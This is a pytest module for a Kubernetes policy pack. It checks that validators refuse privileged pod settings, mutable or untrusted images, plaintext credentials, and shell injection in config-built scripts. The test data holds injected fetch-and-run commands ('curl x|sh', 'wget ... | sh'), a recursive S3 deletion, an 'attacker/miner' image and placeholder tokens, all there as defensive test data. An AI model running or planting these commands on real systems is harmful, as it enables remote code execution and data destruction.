"""The ways around the policy pack that issue 12 found, each with a violating and a compliant
case, the pack's validators called as the policy SDK's analyzer calls them (tests/policy_harness.py, held to the pack
running as its own process by test_policies.py): with the pack's defaults, and with a policy config."""

from __future__ import annotations

import base64
import copy
import json
from typing import Any

import pytest

from platform_config.pins import ENVOY_PROXY
from preview.engine import RecordedResource

from .helpers import Evaluated, prod_with_labeller_server
from .policy_harness import PolicyHarness
from .test_policies import (
    AUTOSCALER,
    DEPLOYMENT,
    EPP,
    EPP_PDB,
    HPA,
    KSVC,
    POLICY_CONFIG,
    analyze,
    analyze_stack,
    both,
    edit,
    find,
    stack_with,
    vllm,
    without_maximum,
)

PROJECT = "inference-platform"
RELEASE = "kubernetes:helm.sh/v3:Release"
POOL = "inference.platform/pool"
NOTHING: dict[str, str] = {}
FAST_AND_SLOW = [{"type": "Percent", "value": 50, "periodSeconds": 60}, {"type": "Pods", "value": 8, "periodSeconds": 60}]


@pytest.fixture(scope="module")
def baseline() -> Evaluated:
    return Evaluated(prod_with_labeller_server(), shared=True)


@pytest.fixture(scope="module")
def harness() -> PolicyHarness:
    return PolicyHarness("prod")


@pytest.fixture(scope="module")
def configured_harness() -> PolicyHarness:
    """The same policies under POLICY_CONFIG: each policy config this module exercises, set away from its default."""
    return PolicyHarness("prod", POLICY_CONFIG)


# --- hardening for every pod --------------------------------------------------------------------


def plain_deployment(**pod: Any) -> RecordedResource:
    """A Deployment that uses no GPU: what a tenant or an add-on could declare beside the models
    (its image one of the repositories the pack allows by default)."""
    container = {
        "name": "web",
        "image": ENVOY_PROXY.image,
        "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
        "ports": [{"containerPort": 8080}],
    }
    spec = {"containers": [container], **pod}
    inputs = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "web", "namespace": "team-a"},
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "web"}}, "template": {"metadata": {}, "spec": spec}},
    }
    urn = f"urn:pulumi:prod::{PROJECT}::{DEPLOYMENT}::web"
    return RecordedResource(DEPLOYMENT, "web", urn, None, True, None, inputs, copy.deepcopy(inputs))


def container_of(record: RecordedResource) -> dict[str, Any]:
    return record.inputs["spec"]["template"]["spec"]["containers"][0]


@pytest.mark.parametrize(
    "change",
    [
        lambda r: container_of(r)["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
        lambda r: container_of(r)["ports"][0].update(hostPort=8080),
        lambda r: r.inputs["spec"]["template"]["spec"].update(hostNetwork=True),
        lambda r: r.inputs["spec"]["template"]["spec"].update(hostPID=True),
        lambda r: r.inputs["spec"]["template"]["spec"].update(hostIPC=True),
        lambda r: container_of(r)["securityContext"].update(privileged=True),
        lambda r: container_of(r)["securityContext"].update(allowPrivilegeEscalation=True),
        lambda r: container_of(r)["securityContext"].update(seLinuxOptions={"type": "spc_t"}),
        lambda r: r.inputs["spec"]["template"]["spec"].update(securityContext={"seLinuxOptions": {"user": "system_u"}}),
        lambda r: container_of(r)["securityContext"].update(seLinuxOptions={"role": "sysadm_r"}),
        lambda r: r.inputs["spec"]["template"]["spec"].update(
            ephemeralContainers=[{"name": "debug", "image": ENVOY_PROXY.image, "securityContext": {}}]
        ),
        lambda r: r.inputs["spec"]["template"]["spec"].update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
        # The rest of the baseline (kubernetes/pod-security-admission v0.33.0 policy/).
        lambda r: container_of(r)["securityContext"].update(appArmorProfile={"type": "Unconfined"}),
        lambda r: r.inputs["spec"]["template"]["spec"].update(securityContext={"seccompProfile": {"type": "Unconfined"}}),
        lambda r: container_of(r)["securityContext"].update(procMount="Unmasked"),
        lambda r: container_of(r)["securityContext"].update(windowsOptions={"hostProcess": True}),
        lambda r: r.inputs["spec"]["template"]["spec"].update(
            securityContext={"sysctls": [{"name": "kernel.msgmax", "value": "65536"}]}
        ),
        lambda r: r.inputs["spec"]["template"]["metadata"].update(
            annotations={"container.apparmor.security.beta.kubernetes.io/web": "unconfined"}
        ),
        lambda r: r.inputs["spec"]["template"]["metadata"].update(
            annotations={"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}
        ),
    ],
    ids=[
        "capabilities-add",
        "host-port",
        "host-network",
        "host-pid",
        "host-ipc",
        "privileged",
        "privilege-escalation",
        "selinux-type",
        "selinux-user",
        "selinux-role",
        "ephemeral-container",
        "host-path",
        "apparmor-unconfined",
        "seccomp-unconfined",
        "proc-mount-unmasked",
        "windows-host-process",
        "unsafe-sysctl",
        "apparmor-annotation-unconfined",
        "seccomp-annotation-unconfined",
    ],
)
def test_every_pod_meets_the_baseline(harness, change):
    record = plain_deployment()
    assert analyze(harness, record) == NOTHING
    change(record)
    assert analyze(harness, record) == {"pod-security-baseline": "mandatory"}


@pytest.mark.parametrize(
    "change",
    [
        lambda r: container_of(r)["securityContext"]["capabilities"].update(add=["NET_BIND_SERVICE"]),
        lambda r: container_of(r)["securityContext"].update(seLinuxOptions={"type": "container_t", "level": "s0:c1,c2"}),
        lambda r: r.inputs["spec"]["template"]["spec"].update(hostUsers=False),
        lambda r: container_of(r)["ports"][0].update(hostPort=0),
        lambda r: container_of(r)["securityContext"].update(seccompProfile={"type": "RuntimeDefault"}, procMount="Default"),
        lambda r: r.inputs["spec"]["template"]["spec"].update(
            securityContext={"sysctls": [{"name": "net.ipv4.tcp_keepalive_time", "value": "60"}]}
        ),
        lambda r: r.inputs["spec"]["template"]["metadata"].update(
            annotations={"container.apparmor.security.beta.kubernetes.io/web": "runtime/default"}
        ),
    ],
    ids=[
        "net-bind-service",
        "selinux-container-type",
        "user-namespace",
        "host-port-0",
        "runtime-default-profiles",
        "safe-sysctl",
        "apparmor-annotation-runtime-default",
    ],
)
def test_what_the_baseline_allows(harness, change):
    record = plain_deployment()
    change(record)
    assert analyze(harness, record) == NOTHING


def test_gpu_pods_meet_the_baseline_too(harness, baseline):
    record = find(baseline, KSVC, "llama-8b-v1-knative-service")
    vllm(record)["securityContext"]["capabilities"]["add"] = ["SYS_PTRACE"]
    assert analyze(harness, record) == {"pod-security-baseline": "mandatory"}


# --- Knative floors in production ---------------------------------------------------------------


def template_annotations(record: RecordedResource) -> dict[str, str]:
    return record.inputs["spec"]["template"]["metadata"]["annotations"]


def vllm_args(record: RecordedResource) -> list[str]:
    (container,) = [c for c in record.inputs["spec"]["template"]["spec"]["containers"] if c["name"] == "vllm"]
    return container["args"]


@pytest.mark.parametrize(
    "change",
    [
        lambda r: template_annotations(r).update({"autoscaling.knative.dev/scale-down-delay": "0s"}),
        lambda r: template_annotations(r).pop("autoscaling.knative.dev/scale-down-delay"),
        lambda r: template_annotations(r).update({"autoscaling.knative.dev/window": "6s"}),
        lambda r: template_annotations(r).update({"autoscaling.knative.dev/window": "a minute"}),
    ],
    ids=["no-delay", "delay-unset", "short-window", "window-not-a-duration"],
)
def test_knative_floors_in_production(harness, configured_harness, baseline, change):
    record = find(baseline, KSVC, "batch-labeller-v1-knative-service")
    assert analyze(harness, record) == NOTHING
    change(record)
    assert analyze(harness, record) == {"knative-autoscaling": "mandatory"}
    # A stack the pack's config does not call production keeps Knative's own defaults.
    assert analyze(configured_harness, record) == NOTHING


@pytest.mark.parametrize("stack_pack", ["harness", "configured_harness"])
def test_a_knative_service_keeps_no_queue_in_queue_proxy_in_any_stack(request, stack_pack, baseline):
    """queue-proxy's breaker queue has no time bound (knative/serving knative-v1.23.0 pkg/queue/sharedmain/main.go):
    any containerConcurrency is refused, production or not."""
    record = find(baseline, KSVC, "llama-8b-v1-knative-service")
    running = request.getfixturevalue(stack_pack)
    record.inputs["spec"]["template"]["spec"]["containerConcurrency"] = 12
    assert analyze(running, record).get("knative-autoscaling") == "mandatory"
    record.inputs["spec"]["template"]["spec"].pop("containerConcurrency")
    assert "knative-autoscaling" not in analyze(running, record)


def test_knative_floors_take_go_durations(harness, baseline):
    record = find(baseline, KSVC, "llama-8b-v1-knative-service")
    template_annotations(record).update(
        {"autoscaling.knative.dev/scale-down-delay": "1m30s", "autoscaling.knative.dev/window": "1m"}
    )
    assert analyze(harness, record) == NOTHING


# --- HPA: scale-down rate and API version ---------------------------------------------------------


def scale_down(record: RecordedResource) -> dict[str, Any]:
    return record.inputs["spec"]["behavior"]["scaleDown"]


@pytest.mark.parametrize(
    "change, verdict",
    [
        (lambda s: s.update(policies=[{"type": "Percent", "value": 100, "periodSeconds": 15}]), "hpa-behavior"),
        (lambda s: s.update(policies=[{"type": "Pods", "value": 8, "periodSeconds": 60}]), "hpa-behavior"),
        (lambda s: s.update(selectPolicy="Max", policies=FAST_AND_SLOW), "hpa-behavior"),
        (lambda s: s.update(selectPolicy="Min", policies=FAST_AND_SLOW), None),
        (lambda s: s.update(selectPolicy="Disabled"), None),
        (lambda s: s.update(policies=[{"type": "Pods", "value": 1, "periodSeconds": 60}]), None),
    ],
    ids=["all-in-15s", "all-pods-a-minute", "max-of-fast-and-slow", "min-of-fast-and-slow", "disabled", "one-pod-a-minute"],
)
def test_hpa_scale_down_rate(harness, baseline, change, verdict):
    record = find(baseline, HPA, "llama-70b-v1-hpa")  # maxReplicas 8
    change(scale_down(record))
    assert analyze(harness, record) == ({verdict: "mandatory"} if verdict else NOTHING)


def test_autoscaling_v1_is_refused(harness, baseline):
    v2 = find(baseline, HPA, "llama-70b-v1-hpa")
    assert analyze(harness, v2) == NOTHING
    token = "kubernetes:autoscaling/v1:HorizontalPodAutoscaler"
    inputs = {
        "apiVersion": "autoscaling/v1",
        "kind": "HorizontalPodAutoscaler",
        "metadata": {"name": "llama-70b-v1", "namespace": "serving"},
        "spec": {
            "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "llama-70b-v1"},
            "minReplicas": 2,
            "maxReplicas": 8,
            "targetCPUUtilizationPercentage": 60,
        },
    }
    v1 = RecordedResource(token, "llama-70b-v1-hpa", v2.urn.replace(HPA, token), None, True, None, inputs, inputs)
    assert analyze(harness, v1) == {"hpa-behavior": "mandatory"}


# --- preStop duration ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hook, verdict",
    [
        ({"exec": {"command": ["sleep", "0"]}}, "inference-graceful-drain"),
        ({"exec": {"command": ["sh", "-c", "sleep 2"]}}, "inference-graceful-drain"),
        ({"exec": {"command": ["sleep", "60"]}}, "inference-graceful-drain"),  # 60 + --shutdown-timeout 300 > 325
        ({"sleep": {"seconds": 1}}, "inference-graceful-drain"),
        ({"sleep": {"seconds": 15}}, None),
        ({"exec": {"command": ["sh", "-c", "sleep 20"]}}, None),
    ],
    ids=["sleep-0", "shell-sleep-2", "past-the-grace", "sleep-action-1", "sleep-action-15", "shell-sleep-20"],
)
def test_pre_stop_duration(harness, baseline, hook, verdict):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")  # grace 325, --shutdown-timeout 300
    vllm(record)["lifecycle"] = {"preStop": hook}
    assert analyze(harness, record) == ({verdict: "mandatory"} if verdict else NOTHING)


# --- disruption budgets that are budgets ------------------------------------------------------------


def _budget(spec: dict[str, Any]):
    def change(records):
        pdb = next(r for r in records if r.name == "llama-70b-v1-pdb")
        pdb.outputs["spec"].pop("maxUnavailable")
        pdb.outputs["spec"].update(spec)
        return records

    return change


@pytest.mark.parametrize(
    "spec, verdict",
    [
        ({"maxUnavailable": 0}, "inference-disruption-budget"),
        ({"maxUnavailable": "0%"}, "inference-disruption-budget"),
        ({"minAvailable": 2}, "inference-disruption-budget"),  # the HPA may scale it down to 2
        ({"minAvailable": "100%"}, "inference-disruption-budget"),
        ({"minAvailable": "90%"}, "inference-disruption-budget"),  # 90% of 2, rounded up
        ({"minAvailable": 1}, None),
        ({"maxUnavailable": "50%"}, None),
    ],
    ids=["max-unavailable-0", "max-unavailable-0-percent", "min-available-at-min-replicas", "min-available-100-percent",
         "min-available-90-percent", "min-available-1", "max-unavailable-50-percent"],
)  # fmt: skip
def test_disruption_budget_allows_an_eviction(harness, baseline, spec, verdict):
    hits = harness.analyze_stack(stack_with(baseline, _budget(spec)))
    flagged = {(d.policy, d.urn.rsplit("::", 1)[-1]) for d in hits}
    assert flagged == ({(verdict, "llama-70b-v1-pdb")} if verdict else set())


# --- quotas that apply to the workload's priority class ------------------------------------------------


def _only_production_quota(priority_class: str):
    def change(records):
        kept = [r for r in records if not (r.type == "kubernetes:core/v1:ResourceQuota" and r.name.startswith("team-a-"))]
        kept += [r for r in records if r.name == "team-a-production"]
        for spec in both(next(r for r in kept if r.name == "llama-1b-v1-deployment")):
            spec["priorityClassName"] = priority_class
        return kept

    return change


def test_quota_must_apply_to_the_workloads_priority_class(harness, baseline):
    # team-a keeps only the quota scoped to inference-production: it bounds production pods...
    assert analyze_stack(harness, stack_with(baseline, _only_production_quota("inference-production"))) == NOTHING
    # ...and nothing bounds an experiment's GPUs.
    hits = harness.analyze_stack(stack_with(baseline, _only_production_quota("inference-experiment")))
    assert [(d.policy, d.urn.rsplit("::", 1)[-1]) for d in hits] == [("gpu-quota-and-priority", "llama-1b-v1-deployment")]
    assert "PriorityClass inference-experiment" in hits[0].message


# --- latency class from the tiers a model serves ------------------------------------------------------


def _time_sliced_l4(premium_to_batch_model: bool):
    def change(records):
        next(r for r in records if r.name == "l4-batch" and r.type.endswith("GpuNodePool")).outputs["sharing"] = "timeSlicing"
        if premium_to_batch_model:
            (vs,) = [r for r in records if r.name == "llama-8b-batch-route-virtual-service"]
            for route in vs.outputs["spec"]["http"]:
                for match in route.get("match", []):
                    if "x-tier" in match.get("headers", {}):
                        match["headers"]["x-tier"] = {"exact": "premium"}
        return records

    return change


def test_latency_class_comes_from_the_tiers_served(harness, configured_harness, baseline):
    # The batch model's profile says it is not latency-sensitive, and it serves batch only: a
    # time-sliced pool is fine...
    assert analyze_stack(harness, stack_with(baseline, _time_sliced_l4(False))) == NOTHING
    # ...unless the pack's config calls batch latency-sensitive too...
    hits = configured_harness.analyze_stack(stack_with(baseline, _time_sliced_l4(False)))
    assert {d.urn.rsplit("::", 1)[-1] for d in hits if d.policy == "latency-sensitive-not-time-sliced"} == {
        "llama-8b-batch-v1-knative-service",
        "batch-labeller-v1-knative-service",
    }
    # ...or its route takes premium requests, whatever its label says.
    hits = harness.analyze_stack(stack_with(baseline, _time_sliced_l4(True)))
    assert {(d.policy, d.level, d.urn.rsplit("::", 1)[-1]) for d in hits} == {
        ("latency-sensitive-not-time-sliced", "mandatory", "llama-8b-batch-v1-knative-service"),
        ("latency-sensitive-on-spot", "advisory", "llama-8b-batch-v1-knative-service"),
    }
    assert all("sends it premium requests" in d.message for d in hits)


# --- images: repository allow-list, mutable tags -----------------------------------------------------------


@pytest.mark.parametrize(
    "image, defaults, configured_verdict",
    [
        ("registry.example.com/someone/vllm:v0.18.0", "pinned-images", None),
        ("quay.io/someone/vllm:v0.18.0", "pinned-images", "pinned-images"),
        ("public.ecr.aws/aws-cli/aws-cli:2.27.50", None, "pinned-images"),
        ("vllm/vllm-openai:nightly", None, "pinned-images"),
        ("docker.io/vllm/vllm-openai:v0.18.0", None, None),
        ("vllm/vllm-openai@sha256:" + "a" * 64, None, None),
        # A pinned image's registry is not its repository: nothing else from ghcr.io or Docker Hub.
        ("ghcr.io/attacker/miner:v1", "pinned-images", "pinned-images"),
        ("docker.io/vllm/vllm-openai-miner:v1", "pinned-images", None),
        ("index.docker.io/vllm/vllm-openai:v0.18.0", None, None),
    ],
    ids=["registry-not-allowed", "registry-allowed-nowhere", "pinned-registry", "mutable-tag", "docker-hub", "digest",
         "another-repository-of-a-pinned-registry", "a-lookalike-repository", "legacy-docker-hub-name"],
)  # fmt: skip
def test_repositories_and_mutable_tags(harness, configured_harness, baseline, image, defaults, configured_verdict):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["image"] = image
    assert analyze(harness, record) == ({defaults: "mandatory"} if defaults else NOTHING)
    assert analyze(configured_harness, record) == ({configured_verdict: "mandatory"} if configured_verdict else NOTHING)


# --- secrets in args, envFrom and Helm values -------------------------------------------------------------

HF_TOKEN = "hf_" + "Q" * 34


@pytest.mark.parametrize(
    "extra, secret",
    [
        (["--api-key", "sk-live-123"], "sk-live-123"),
        (["--hf-token", HF_TOKEN], HF_TOKEN),
        (["--api-key=sk-live-123"], "sk-live-123"),
        (["--download-dir", f"/models?token={HF_TOKEN}"], HF_TOKEN),
        # Any known format, wherever it stands (platform_config/credentials.py, in the pack's facts).
        (["--download-dir", "AKIA" + "Q" * 16], "AKIA" + "Q" * 16),
        (["--served-model-name", "ghp_" + "r" * 36], "ghp_" + "r" * 36),
    ],
    ids=["api-key", "hf-token", "api-key-equals", "token-query", "aws-access-key", "github-token"],
)
def test_secrets_in_args(harness, baseline, extra, secret):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["args"] += extra
    diagnostics = harness.analyze(record, None)
    assert {d.policy: d.level for d in diagnostics} == {"no-secret-args": "mandatory"}
    assert all(secret not in d.message for d in diagnostics)


def test_secrets_in_a_shell_command(harness, baseline):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["command"] = ["sh", "-c", f"HF_TOKEN={HF_TOKEN} vllm serve"]
    assert analyze(harness, record) == {"no-secret-args": "mandatory"}


@pytest.mark.parametrize(
    "extra",
    [["--api-key", "$(VLLM_API_KEY)"], ["--tokenizer-mode", "auto"], ["--max-num-batched-tokens", "8192"]],
    ids=["env-reference", "tokenizer-mode", "max-tokens"],
)
def test_args_without_secrets(harness, baseline, extra):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["args"] += extra
    assert analyze(harness, record) == NOTHING


def test_env_from_secrets(harness, configured_harness, baseline):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["envFrom"] = [{"configMapRef": {"name": "vllm-settings"}}]
    assert analyze(harness, record) == NOTHING
    vllm(record)["envFrom"].append({"secretRef": {"name": "huggingface-token"}})
    assert analyze(harness, record) == {"no-secret-env-from": "mandatory"}
    # The pack's config may allow it in a namespace (this one is `serving`).
    assert analyze(configured_harness, record) == NOTHING


@pytest.mark.parametrize(
    "values, verdict",
    [
        ({"grafana": {"adminPassword": "hunter2"}}, "no-secrets-in-helm-values"),
        ({"env": [{"name": "HF_TOKEN", "value": "abc"}]}, "no-secrets-in-helm-values"),
        ({"extraArgs": {"download": f"https://hf.co?x={HF_TOKEN}"}}, "no-secrets-in-helm-values"),
        ({"grafana": {"admin": {"existingSecret": "grafana-admin", "passwordKey": "password"}}}, None),
        ({"grafana": {"adminPassword": ""}}, None),
        ({"env": [{"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf", "key": "token"}}}]}, None),
    ],
    ids=["admin-password", "env-entry", "token-in-a-string", "existing-secret", "empty", "env-secret-ref"],
)
def test_secrets_in_helm_values(harness, baseline, values, verdict):
    record = find(baseline, RELEASE, "monitoring-release")
    assert analyze(harness, record) == NOTHING
    record.inputs["values"].update(values)
    diagnostics = harness.analyze(record, None)
    assert {d.policy: d.level for d in diagnostics} == ({verdict: "mandatory"} if verdict else NOTHING)
    assert all("hunter2" not in d.message and HF_TOKEN not in d.message for d in diagnostics)


# Tokens of each format the program and the pack know (platform_config/credentials.py, in the pack's facts), none of
# them real: a format's prefix and a body of its alphabet and length.
TOKENS = {
    "npm token": "npm_" + "a1B2" * 9,
    "Docker Hub token": "dckr_pat_" + "Xy_9" * 7,
    "Stripe live key": "rk_live_" + "Zz09" * 6,
    "Anthropic API key": "sk-ant-api03-" + "Ab_-" * 23,
    "GitHub token": "github_pat_" + "A1" * 11 + "_" + "b2" * 30,
    "GitLab token": "glpat-" + "Cd3_" * 5,
    "Slack token": "xapp-1-A0123456789-" + "9" * 12,
}


@pytest.mark.parametrize("kind, token", sorted(TOKENS.items()), ids=sorted(TOKENS))
def test_an_environment_value_of_a_known_format_is_refused_whatever_its_name(harness, baseline, kind, token):
    """By format, not only by name: `DOWNLOAD_URL=...<token>` is as much a credential in clear as `HF_TOKEN=...`, in
    a regular container or an ephemeral one."""
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["env"].append({"name": "DOWNLOAD_URL", "value": f"https://registry.example.com/?auth={token}"})
    diagnostics = harness.analyze(record, None)
    assert {d.policy: d.level for d in diagnostics} == {"no-plain-secret-env": "mandatory"}
    assert any(kind in d.message for d in diagnostics) and all(token not in d.message for d in diagnostics)
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    record.inputs["spec"]["template"]["spec"]["ephemeralContainers"] = [
        {"name": "debug", "image": ENVOY_PROXY.image, "args": ["--token", token]}
    ]
    assert "no-secret-args" in analyze(harness, record)


def test_a_config_map_holding_a_credential_is_refused(harness, baseline):
    """ConfigMaps are stored and read in clear: a token in a value, in a key, or base64 in binaryData is refused."""
    record = copy.deepcopy(next(r for r in baseline.records if r.type == "kubernetes:core/v1:ConfigMap"))
    assert analyze(harness, record) == NOTHING
    for change in (
        lambda data: data.setdefault("data", {}).update({"settings.yaml": f"registry:\n  token: {TOKENS['npm token']}\n"}),
        lambda data: data.setdefault("data", {}).update({TOKENS["Stripe live key"]: "x"}),
        lambda data: data.setdefault("binaryData", {}).update(
            {"k": base64.b64encode(TOKENS["Docker Hub token"].encode()).decode()}
        ),
    ):
        changed = copy.deepcopy(record)
        change(changed.inputs)
        diagnostics = harness.analyze(changed, None)
        assert {d.policy: d.level for d in diagnostics} == {"no-secrets-in-config-maps": "mandatory"}
        assert all(token not in d.message for d in diagnostics for token in TOKENS.values())


def test_the_pack_names_credentials_as_the_program_does():
    """One list of formats, generated into the pack's facts: the pack's copy is the program's, and each names a
    token of every format alike (a drift between them fails here)."""
    from inference_governance import credentials as pack

    from platform_config.credentials import CREDENTIAL_FORMATS, credential_format

    assert [(name, pattern.pattern) for name, pattern in pack._CREDENTIALS] == list(CREDENTIAL_FORMATS)
    for kind, token in TOKENS.items():
        assert credential_format(f"x={token}") == pack.credential_format(f"x={token}") == kind, kind


# --- shell scripts built from config ----------------------------------------------------------------------


def _script_containers(record: RecordedResource) -> list[dict[str, Any]]:
    return [
        c for spec in both(record) for c in spec["initContainers"] + spec["containers"] if c["name"] in ("stage-in", "uploader")
    ]


def _rewrite(rewrite):
    def change(record: RecordedResource) -> None:
        for container in _script_containers(record):
            container["command"] = rewrite(container["command"])

    return change


def _in_hook(record: RecordedResource) -> None:
    for spec in both(record):
        runner = next(c for c in spec["containers"] if c["name"] == "runner")
        runner["lifecycle"] = {"preStop": {"exec": {"command": ["sh", "-c", "aws s3 cp /work/x s3://team-b-batch/out/$(id)"]}}}


def _in_probe(record: RecordedResource) -> None:
    for spec in both(record):
        runner = next(c for c in spec["containers"] if c["name"] == "runner")
        runner["livenessProbe"] = {"exec": {"command": ["/bin/bash", "-c", "test -e s3://team-b-batch/out;id"]}}


def _in_ephemeral(record: RecordedResource) -> None:
    for spec in both(record):
        debug = {**copy.deepcopy(next(c for c in spec["initContainers"] if c["name"] == "stage-in")), "name": "debug"}
        spec["ephemeralContainers"] = [{**debug, "command": ["sh", "-c", "aws s3 ls s3://b-x/`id`"]}]


@pytest.mark.parametrize(
    "change",
    [
        # After the program's own quoted location, an injected command: the script's text is no longer the program's.
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'/shard-", "';curl x|sh;'/shard-", 1)]),
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1] + " && wget -qO- http://x | sh"]),
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "$'s3://", 1)]),
        # The location split across quotes, or its scheme escaped or upper-cased: still a location.
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "'s3:''//", 1)]),
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "S3\\://", 1).replace("'/shard-", "/shard-", 1)]),
        # Whatever runs the shell.
        _rewrite(lambda cmd: ["tini", "--", *cmd[:-1], cmd[-1].replace("'s3://", "s3://").replace("'/shard-", "/shard-")]),
        _rewrite(
            lambda cmd: [
                "nice",
                "-n",
                "5",
                "timeout",
                "60",
                *cmd[:-1],
                cmd[-1].replace("'s3://", '"s3://').replace("'/shard-", '"/shard-'),
            ]
        ),
        # Two shells in one command line: the second is read too.
        _rewrite(lambda cmd: [*cmd, "sh", "-c", "aws s3 rm --recursive s3://team-b-batch/"]),
        # Where else a container runs a command: hooks, probes, ephemeral containers.
        _in_hook,
        _in_probe,
        _in_ephemeral,
    ],
    ids=[
        "command-after-the-quote",
        "appended-pipe",
        "ansi-c-quoting",
        "split-quotes",
        "escaped-upper-case-scheme",
        "tini",
        "nice-and-timeout-double-quoted",
        "second-shell",
        "pre-stop-hook",
        "liveness-probe",
        "ephemeral-container",
    ],
)
def test_a_shell_script_built_from_config_is_the_platforms_own_with_the_location_quoted(harness, baseline, change):
    record = find(baseline, JOB, "ticket-labels-job")
    assert _script_containers(record) and analyze(harness, record) == NOTHING
    change(record)
    assert analyze(harness, record).get("shell-scripts-quote-config") == "mandatory"


@pytest.mark.parametrize(
    "command",
    [["sh", "-c", "sleep 20"], ["bash", "-c", "echo ready > /tmp/ready"], ["sh", "/opt/scripts/entry.sh", "s3://x/y"]],
    ids=["sleep", "redirection-without-a-location", "a-script-file"],
)
def test_a_shell_script_naming_no_location_is_not_this_rules(harness, baseline, command):
    """A script that names no location holds nothing config gives (the rule cannot tell config in other words);
    a shell running a file is not a command string."""
    record = find(baseline, JOB, "ticket-labels-job")
    for spec in both(record):
        next(c for c in spec["containers"] if c["name"] == "runner")["lifecycle"] = {"preStop": {"exec": {"command": command}}}
    assert "shell-scripts-quote-config" not in analyze(harness, record)


# --- placement by node affinity --------------------------------------------------------------------------


def _placed(selector: dict[str, str] | None, pools: list[str] | None):
    def change(records):
        for spec in both(next(r for r in records if r.name == "llama-1b-v1-deployment")):
            spec.pop("nodeSelector")
            if selector is not None:
                spec["nodeSelector"] = selector
            if pools is not None:
                terms = [{"matchExpressions": [{"key": POOL, "operator": "In", "values": pools}]}]
                spec["affinity"] = {
                    "nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": terms}}
                }
        return records

    return change


@pytest.mark.parametrize(
    "selector, pools, verdict",
    [
        (None, ["system"], {"gpu-pod-placement"}),
        (None, None, {"gpu-pod-placement"}),
        ({POOL: "h100"}, ["l4-batch"], {"gpu-pod-placement"}),  # nothing satisfies both
        (None, ["h100"], set()),
        ({POOL: "h100"}, ["h100", "system"], set()),
        # Both GPU pools: placed, and the pool rules see the spot pool it may land on.
        (None, ["h100", "l4-batch"], {"latency-sensitive-on-spot"}),
    ],
    ids=["affinity-to-system", "no-placement", "selector-and-affinity-disjoint", "affinity-to-h100",
         "selector-narrows-affinity", "affinity-to-gpu-pools"],
)  # fmt: skip
def test_gpu_pods_land_on_gpu_pools(harness, baseline, selector, pools, verdict):
    hits = harness.analyze_stack(stack_with(baseline, _placed(selector, pools)))
    assert {d.urn.rsplit("::", 1)[-1] for d in hits} <= {"llama-1b-v1-deployment"}
    assert {d.policy for d in hits} == verdict


def test_pool_rules_follow_node_affinity(harness, baseline):
    def sliced_h100_by_affinity(records):
        records = _placed(None, ["h100"])(records)
        next(r for r in records if r.name == "h100" and r.type.endswith("GpuNodePool")).outputs["sharing"] = "timeSlicing"
        return records

    hits = harness.analyze_stack(stack_with(baseline, sliced_h100_by_affinity))
    sliced = {d.urn.rsplit("::", 1)[-1] for d in hits if d.policy == "latency-sensitive-not-time-sliced"}
    assert "llama-1b-v1-deployment" in sliced


def test_a_service_taking_premium_stays_warm(harness, baseline):
    """The batch labeller's profile would let it scale to zero (min-scale 0, which a careless change
    sets); once its route takes premium requests, through its endpoint pickers, it must keep a replica."""

    def premium_to_labeller(records):
        (service,) = [r for r in records if r.name == "batch-labeller-v1-knative-service"]
        for state in {id(s): s for s in (service.inputs, service.outputs)}.values():
            state["spec"]["template"]["metadata"]["annotations"]["autoscaling.knative.dev/min-scale"] = "0"
        (vs,) = [r for r in records if r.name == "batch-labeller-route-virtual-service"]
        for route in vs.outputs["spec"]["http"]:
            for match in route.get("match", []):
                if "x-tier" in match.get("headers", {}):
                    match["headers"]["x-tier"] = {"exact": "premium"}
        return records

    assert analyze_stack(harness, baseline.records) == NOTHING
    hits = harness.analyze_stack(stack_with(baseline, premium_to_labeller))
    assert {(d.policy, d.level, d.urn.rsplit("::", 1)[-1]) for d in hits} == {
        ("latency-sensitive-min-scale", "mandatory", "batch-labeller-v1-knative-service"),
        ("latency-sensitive-on-spot", "advisory", "batch-labeller-v1-knative-service"),
    }


# --- endpoint picker replicas in production (control-plane-availability) ----------------------------------

PICKERS = {
    f"{server}-epp-deployment"
    for server in ("llama-1b-v1", "llama-70b-v1", "llama-8b-v1", "llama-8b-v2", "llama-8b-batch-v1", "batch-labeller-v1")
}


def _pickers_run(replicas: int):
    def change(records):
        for record in records:
            if record.name in PICKERS:
                record.outputs["spec"]["replicas"] = replicas
        return records

    return change


@pytest.mark.parametrize(
    "replicas, defaults, moved",
    [(1, PICKERS, PICKERS), (2, set(), PICKERS), (3, set(), set())],
    ids=["one", "two", "three"],
)
def test_endpoint_picker_replica_floor_moves_with_the_config(harness, configured_harness, baseline, replicas, defaults, moved):
    # The pack's default is the program's floor (2); its config may ask for more (here 3).
    records = stack_with(baseline, _pickers_run(replicas))
    for running, flagged in ((harness, defaults), (configured_harness, moved)):
        hits = [d for d in running.analyze_stack(records) if d.policy == "control-plane-availability"]
        assert {d.urn.rsplit("::", 1)[-1] for d in hits} == flagged
        assert all(d.level == "mandatory" for d in hits)


# --- what every request depends on: replicas, spread over nodes, one budget (control-plane-availability) ---

SERVING = "knative-serving-serving"
